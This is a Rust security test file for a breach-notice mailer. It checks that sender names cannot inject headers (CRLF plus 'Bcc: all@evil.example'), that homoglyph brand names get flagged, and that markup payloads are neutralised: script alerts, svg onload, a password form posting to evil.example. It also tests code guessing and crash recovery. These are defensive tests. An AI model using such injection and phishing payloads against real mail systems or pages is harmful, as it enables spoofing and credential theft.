//! Attacks on notices: names that are made to forge them, a sender that is killed while its relay fails, and codes that
//! are guessed.

use std::collections::{BTreeMap, BTreeSet};
use std::io::{BufRead, BufReader, Write};
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use clap::Subcommand;
use cofferdam_model::PersonalField;
use cofferdam_notice::code::{NoticeKey, Recipient, RecipientKind};
use cofferdam_notice::deliver::{Address, Answer, Mailer, Opened, Pace, Recipients, UNRECORDED_MAX};
use cofferdam_notice::dkim::Keys;
use cofferdam_notice::message::{From, Letter};
use cofferdam_notice::names::Name;
use cofferdam_notice::outbox::{self, Addressee, Lease, Outbox};
use cofferdam_notice::smtp::{Mailbox, Relay};
use cofferdam_notice::text::{Account, Audience, Facts, Language, Measure, Wording, lint};
use serde_json::json;
use tokio::net::TcpListener;

use crate::access::Somebody;
use crate::running::Running;
use crate::sink::{self, Faults, header};
use crate::{Case, Outcome, Stage};

pub(crate) fn cases() -> Vec<Case> {
    vec![
        Case { number: 68, title: "names that add headers to a notice or imitate others", run: names },
        Case { number: 86, title: "codes of notices that are guessed, by one and by five hundred", run: guessed },
        Case { number: 89, title: "a sender of notices that is killed while its relay fails", run: killed },
        Case { number: 92, title: "names that put links and images into a notice", run: markup },
    ]
}

const KEY: [u8; 32] = [7; 32];
const TIME_US: i64 = 1_772_355_900_000_000;

fn facts(name: &str) -> Facts {
    Facts {
        sender: Name::of(name),
        service: Name::of(name),
        contact: "privacy@attacked.example".to_owned(),
        host: "analytics.attacked.example".to_owned(),
        incident: 7,
        version: 1,
        replaces: None,
        occurred_us: (TIME_US, TIME_US),
        detected_us: TIME_US,
        contained_us: None,
        account: Account::Staff,
        fields: [PersonalField::Email].into_iter().collect(),
        persons: 2,
        measures: vec![Measure::Locked],
    }
}

fn person(number: u32) -> Recipient {
    Recipient { kind: RecipientKind::Person, project: 1, number }
}

fn sender(name: &str) -> Result<From> {
    let mailbox = Mailbox::parse("privacy@attacked.example").context("an address")?;
    Ok(From { mailbox, name: Name::of(name) })
}

fn names(_: &Stage) -> Result<Outcome> {
    const HEADERS: [&str; 10] = [
        "DKIM-Signature",
        "DKIM-Signature",
        "From",
        "To",
        "Subject",
        "Date",
        "Message-ID",
        "MIME-Version",
        "Content-Type",
        "Auto-Submitted",
    ];
    let keys = Keys::generate()?;
    let (mut added, mut unflagged, mut mails) = (0, 0, 0);
    let to = Mailbox::parse("ada@b.example").context("an address")?;
    let endings = ["\r\n", "\n", "\r", "\u{2028}", "\u{85}", "\r\n\r\n"];
    let names = endings.iter().map(|end| format!("Shop{end}Bcc: all@evil.example{end}X-A: b"));
    for name in names {
        for language in Language::ALL {
            let wording = Wording::new(&facts(&name), Audience::Person, language)?;
            let (from, key) = (sender(&name)?, NoticeKey::new(&KEY));
            let mail = Letter::new(&wording, 1).to(&to, person(1), &from, &key, &keys, TIME_US)?;
            let mail = String::from_utf8_lossy(&mail);
            // As lenient programs read lines: any of the two ends one.
            let head: Vec<&str> = mail.split(['\r', '\n']).filter(|line| !line.starts_with([' ', '\t'])).collect();
            let fields = head.iter().filter(|line| !line.is_empty()).map_while(|line| line.split_once(':'));
            let fields: Vec<&str> = fields.map(|(name, _)| name).take(HEADERS.len()).collect();
            added += usize::from(fields != HEADERS || mail.contains("\nBcc:") || mail.contains("\rBcc:"));
            mails += 1;
        }
    }
    for imitated in ["Pаypal", "Αmazon", "Gооgle", "Micrоsoft"] {
        let wording = Wording::new(&facts(imitated), Audience::Person, Language::English)?;
        unflagged += usize::from(!wording.text().contains("careful"));
    }
    Ok(Outcome {
        is_through: added + unflagged > 0,
        figure: format!("{added} of {mails} mails with other headers; {unflagged} of 4 imitated names not flagged"),
    })
}

fn markup(_: &Stage) -> Result<Outcome> {
    let payloads = [
        "<a href=\"https://evil.example\">Shop</a>",
        "<img src=https://evil.example/pixel.png>",
        "<script>alert(1)</script>",
        "https://evil.example",
        "www.evil.example",
        "\"><svg onload=alert(1)>",
        "Shop</p><form action=//evil.example><input name=password>",
        "javascript:alert(1)",
        "&lt;b&gt;<b>",
    ];
    let (mut notices, mut found) = (0, 0);
    for payload in payloads {
        for language in Language::ALL {
            for audience in Audience::ALL {
                let wording = Wording::new(&facts(payload), audience, language)?;
                notices += 1;
                found += usize::from(!lint(&wording.text(), &wording.html()).is_empty());
            }
        }
    }
    Ok(Outcome {
        is_through: found > 0,
        figure: format!("{found} of {notices} notices with anything to click or load"),
    })
}

fn guessed(stage: &Stage) -> Result<Outcome> {
    let (by_one, by_many) = if stage.is_full { (2_000_u32, 20_000_u32) } else { (100, 500) };
    let server = Running::start(&stage.binary, &stage.folder, &["--proxies", "1"])?;
    let owner = Somebody::owner(&server)?;
    let open = json!({"cause": "drill", "account": "unknown", "service": "Shop"});
    let opened = owner.act("POST", "/api/v1/incidents", &open)?;
    let incident = opened.json()["id"].as_u64().context("no incident")?;
    let shown = owner.act("POST", &format!("/api/v1/incidents/{incident}"), &json!({"make_public": true}))?;
    ensure!(shown.status == 200, "the page is not public: {}", shown.status);
    let path = format!("/incidents/{incident}");
    let mut random = 0x9e37_79b9_7f4a_7c15_u64;
    let mut guess = |from: u32| -> Result<(bool, bool)> {
        random = random.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        let code = NoticeKey::new(&[random as u8; 32]).code(person(random as u32), (random >> 32) as u32);
        let reply =
            server.form_from(IpAddr::from((0x0a00_0000 + from).to_be_bytes()), &path, &format!("code={code}"))?;
        ensure!(matches!(reply.status, 200 | 429), "{}", reply.status);
        let is_hit = String::from_utf8_lossy(&reply.body).contains("genuine</h1>");
        Ok((reply.status == 200, is_hit))
    };
    let started = Instant::now();
    let (mut one, mut all, mut hits) = (0, 0, 0);
    for at in 0..by_one + by_many {
        let from = if at < by_one { 1 } else { 2 + at % 500 };
        let (is_answered, is_hit) = guess(from)?;
        one += u64::from(is_answered && at < by_one);
        all += u64::from(is_answered);
        hits += u64::from(is_hit);
    }
    // Minutes are counted by the clock: those that it lay in.
    let minutes = started.elapsed().as_secs() / 60 + 2;
    Ok(Outcome {
        is_through: hits > 0 || one > 10 * minutes || all > 100 * minutes,
        figure: format!(
            "{one} of {by_one} tries of one address answered, {all} of {} of all, in {minutes} minutes of the clock; {hits} \
             hits of 2^60 codes",
            by_one + by_many
        ),
    })
}

// A sender that is killed.

/// What this program plays beside the attacker.
#[derive(Subcommand)]
pub(crate) enum Part {
    Sink {
        /// A line for each mail that is taken
        log: PathBuf,
        /// Of a thousand mails, how many meet each fault
        faults: u64,
        /// Where one mail of so many is kept, by its number
        mails: PathBuf,
        every: usize,
    },
    Sender {
        folder: PathBuf,
        port: u16,
        count: u32,
    },
}

/// What signs the mails, and how many were accepted and refused for good in the end.
const KEYS: &str = "keys";
const ENDED: &str = "ended";
const SILENCE: Duration = Duration::from_millis(400);
const CONNECTIONS: usize = 8;

pub(crate) fn play(part: Part) -> Result<()> {
    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build()?;
    runtime.block_on(async {
        match part {
            Part::Sink { log, faults, mails, every } => play_sink(&log, faults, &mails, every).await,
            Part::Sender { folder, port, count } => play_sender(&folder, port, count).await,
        }
    })
}

#[expect(clippy::print_stdout, reason = "the parent reads the port")]
async fn play_sink(log: &Path, faults: u64, mails: &Path, every: usize) -> Result<()> {
    let listener = TcpListener::bind("127.0.0.1:0").await?;
    println!("{}", listener.local_addr()?.port());
    let file = Mutex::new(std::fs::File::create(log)?);
    let faults = Faults { each_per_mille: faults, seed: 89, silence: 2 * SILENCE };
    let (mails, count) = (mails.to_owned(), AtomicUsize::new(0));
    let keep = move |one: sink::Taken| {
        let at = count.fetch_add(1, Ordering::Relaxed);
        if at.is_multiple_of(every) {
            std::fs::write(mails.join(at.to_string()), &one.mail).expect("a mail can be written");
        }
        let mail = String::from_utf8_lossy(&one.mail);
        let id = header(&mail, "Message-ID").unwrap_or("none");
        let line = format!("{}\t{id}\t{}\n", one.to, if one.is_answered { "answered" } else { "closed" });
        let mut file = file.lock().expect("never left half changed");
        file.write_all(line.as_bytes()).expect("the log can be written");
    };
    sink::serve(listener, faults, Arc::new(keep)).await;
    Ok(())
}

/// Addresses that are made of numbers.
struct Numbered;

/// Every eightieth has gone: the relay refuses it for good.
fn address(number: u32) -> String {
    let word = if number.is_multiple_of(80) { "gone" } else { "p" };
    format!("{word}{number}@d{}.example", number % 97)
}

impl Recipients for Numbered {
    fn open<'a>(&'a self, lease: &'a Lease) -> Answer<'a, Result<Opened, String>> {
        let of = |number| Mailbox::parse(&address(number)).map_or(Address::Unusable, Address::Mailbox);
        let addresses = lease.rows.iter().map(|row| of(row.recipient.number)).collect();
        Box::pin(async move { Ok(Opened { disclosure: 0, addresses }) })
    }

    fn close<'a>(&'a self, _: &'a Lease, _: u64, _: u64) -> Answer<'a, ()> {
        Box::pin(async {})
    }

    fn key(&self, _: u32) -> NoticeKey {
        NoticeKey::new(&KEY)
    }
}

fn now_us() -> i64 {
    crate::running::now_ms() as i64 * 1_000
}

async fn play_sender(folder: &Path, port: u16, count: u32) -> Result<()> {
    let outbox = Arc::new(Outbox::open(&folder.join("outbox.db")).await?);
    if outbox.campaigns(None).await?.is_empty() {
        let wording = Wording::new(&facts("Shop"), Audience::Person, Language::English)?;
        let letter =
            outbox::Letter { entry: 1, subject: wording.subject.clone(), text: wording.text(), html: wording.html() };
        let key = NoticeKey::new(&KEY);
        let addressees = (1..=count).map(|number| {
            let recipient = person(number);
            Addressee { recipient, letter: 0, tag: key.tag(&key.code(recipient, 1)) }
        });
        outbox.queue(7, 1, &[letter], addressees, now_us()).await?;
    }
    let relay = Relay::parse(&format!("smtp://127.0.0.1:{port}"), None, None)?.with_timeout(SILENCE);
    let pace = Pace {
        connections: CONNECTIONS,
        domain_per_second: 100_000,
        retry_first: Duration::from_millis(20),
        attempts_max: 1_000,
    };
    let keys = Keys::from_bytes(&std::fs::read(folder.join(KEYS))?)?;
    let mailer = Arc::new(Mailer::new(outbox.clone(), relay, sender("Shop")?, keys, pace, Arc::new(now_us)));
    let running = {
        let mailer = mailer.clone();
        tokio::spawn(async move { mailer.run(Arc::new(Numbered)).await })
    };
    loop {
        let progress = outbox.progress(1).await?;
        if progress.queued + progress.leased == 0 {
            mailer.stop();
            running.await?;
            let ended = format!("{} {}", progress.accepted, progress.bounced);
            std::fs::write(folder.join(ENDED), ended)?;
            return Ok(());
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

/// A child that ends with this value.
struct Played(Child);

impl Drop for Played {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn played(words: &[&str]) -> Result<Played> {
    let mut command = Command::new(std::env::current_exe()?);
    Ok(Played(command.arg("notices").args(words).stdout(Stdio::piped()).spawn()?))
}

/// Mails that were taken, by address; and how many of them nobody was told of.
struct Log {
    by_address: BTreeMap<String, Vec<String>>,
    closed: usize,
}

fn read_log(path: &Path) -> Result<Log> {
    let mut log = Log { by_address: BTreeMap::new(), closed: 0 };
    for line in std::fs::read_to_string(path)?.lines() {
        let [to, id, ended] = line.split('\t').collect::<Vec<_>>()[..] else { continue };
        log.by_address.entry(to.to_owned()).or_default().push(id.to_owned());
        log.closed += usize::from(ended == "closed");
    }
    Ok(log)
}

/// How many of the kept mails have two signatures that another implementation verifies, of how many; none where that is
/// not installed.
fn verified(mails: &Path, records: &Path) -> Result<Option<(usize, usize)>> {
    let venv = std::env::var_os("COFFERDAM_VENV").map_or_else(|| PathBuf::from("target/venv"), PathBuf::from);
    let python = venv.join("bin/python");
    if !python.exists() {
        return Ok(None);
    }
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/notices/verify.py");
    let (mut good, mut all) = (0, 0);
    for mail in std::fs::read_dir(mails)? {
        let output = Command::new(&python).arg(&script).arg(mail?.path()).arg(records).output()?;
        ensure!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr).trim().to_owned());
        good += usize::from(output.stdout == b"ed25519-sha256 True\nrsa-sha256 True\n");
        all += 1;
    }
    Ok(Some((good, all)))
}

fn killed(stage: &Stage) -> Result<Outcome> {
    let (count, kills, sample) = if stage.is_full { (100_000_u32, 10_usize, 100) } else { (600, 2, 5) };
    let (log, mails, records) = (stage.folder.join("taken"), stage.folder.join("mails"), stage.folder.join("records"));
    std::fs::create_dir(&mails)?;
    let keys = Keys::generate()?;
    std::fs::write(stage.folder.join(KEYS), &*keys.to_bytes()?)?;
    let published = keys.records("attacked.example")?.map(|(name, value)| format!("{name}\t{value}\n"));
    std::fs::write(&records, published.concat())?;
    let every = (count as usize / sample).to_string();
    let words = ["sink", &log.display().to_string(), "13", &mails.display().to_string(), &every];
    let mut relay = played(&words)?;
    let mut line = String::new();
    BufReader::new(relay.0.stdout.take().context("the relay's output is a pipe")?).read_line(&mut line)?;
    let port = line.trim();
    let words = ["sender", &stage.folder.display().to_string(), port, &count.to_string()];
    let taken = || std::fs::metadata(&log).map_or(0, |file| file.len());
    let (started, mut sending) = (Instant::now(), Duration::ZERO);
    for kill in 1..=kills {
        let mut sender = played(&words)?;
        let since = Instant::now();
        // Killed in the midst: when its share was taken, or when it has nothing left.
        let share = u64::from(count) * 60 * kill as u64 / (kills as u64 + 1);
        while taken() < share && sender.0.try_wait()?.is_none() {
            std::thread::sleep(Duration::from_millis(2));
        }
        sending += since.elapsed();
        drop(sender);
    }
    let mut last = played(&words)?;
    let since = Instant::now();
    let ended = last.0.wait()?;
    sending += since.elapsed();
    ensure!(ended.success(), "the sender failed");
    drop(relay);

    let found = read_log(&log)?;
    let (gone, wanted): (BTreeSet<String>, BTreeSet<String>) =
        (1..=count).map(address).partition(|to| to.starts_with("gone"));
    let ended = std::fs::read_to_string(stage.folder.join(ENDED))?;
    let is_counted = ended == format!("{} {}", wanted.len(), gone.len());
    let signatures = verified(&mails, &records)?;
    let is_signed = signatures.is_none_or(|(good, all)| good == all && all > 0);
    let lost = wanted.iter().filter(|to| !found.by_address.contains_key(*to)).count();
    let wrong = found.by_address.keys().filter(|to| !wanted.contains(*to)).count();
    let sent: usize = found.by_address.values().map(Vec::len).sum();
    let repeated = sent - found.by_address.len();
    let unequal = found.by_address.values().filter(|ids| ids.iter().any(|id| *id != ids[0])).count();
    // Beyond those whose connection the relay closed before it answered, repeats come from kills alone.
    let after_kills = repeated.saturating_sub(found.closed);
    let most = kills * (UNRECORDED_MAX + CONNECTIONS);
    Ok(Outcome {
        is_through: lost + wrong + unequal > 0 || after_kills > most || !is_counted || !is_signed,
        figure: format!(
            "{count} notices, {kills} kills: {lost} lost, {wrong} to others, {repeated} repeated ({} unanswered, {after_kills} \
             after kills of at most {most}), {unequal} under another Message-ID; {} of those that are gone {}; signatures \
             of {}; {:.0} a second, {:.1} s with starts",
            found.closed,
            gone.len(),
            if is_counted { "listed" } else { "not listed rightly" },
            match signatures {
                None => "no mail looked at: dkimpy is not installed".to_owned(),
                Some((good, all)) => format!("{good} of {all} mails verified by dkimpy"),
            },
            sent as f64 / sending.as_secs_f64(),
            started.elapsed().as_secs_f64(),
        ),
    })
}
